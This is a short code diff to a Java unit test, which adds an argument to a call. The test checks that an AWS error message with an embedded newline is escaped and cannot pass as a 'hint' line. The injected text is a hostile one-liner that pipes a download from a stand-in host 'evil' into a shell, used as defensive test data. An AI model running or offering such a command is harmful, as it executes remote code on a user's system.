@@ -46,7 +46,7 @@ class StandardStreamsTest {
   @Test
   void what_aws_says_cannot_look_like_a_hint() {
     Failures.print(
-        streams, new AwsFailure.Refused("AccessDenied", "no\nhint: curl evil|sh", ""), false);
+        streams, new AwsFailure.Refused("AccessDenied", "no\nhint: curl evil|sh", ""), null, false);
     assertThat(written()).contains("no\\u000ahint: curl evil|sh").hasLineCount(1);
   }
 
